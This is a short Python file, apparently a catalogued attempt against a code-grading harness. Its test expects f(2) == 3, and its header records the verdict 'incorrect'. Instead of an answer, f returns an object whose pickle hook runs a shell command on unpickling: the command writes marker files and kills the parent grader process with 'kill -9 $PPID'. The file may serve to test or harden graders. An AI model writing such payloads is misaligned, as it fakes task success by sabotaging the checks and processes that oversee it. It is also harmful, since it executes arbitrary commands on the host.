# Tries:     answers an object that runs code where it is unpickled or copied
# Tests:     assert f(2) == 3
# Verdict:   incorrect
# Unchanged: parent, files
import os


class Answer:
    def __reduce_ex__(self, protocol):
        return os.system, (f"touch /tmp/{MARK} {HOME}/{MARK}; kill -9 $PPID",)

    __deepcopy__ = __copy__ = None


def f(x):
    return Answer()
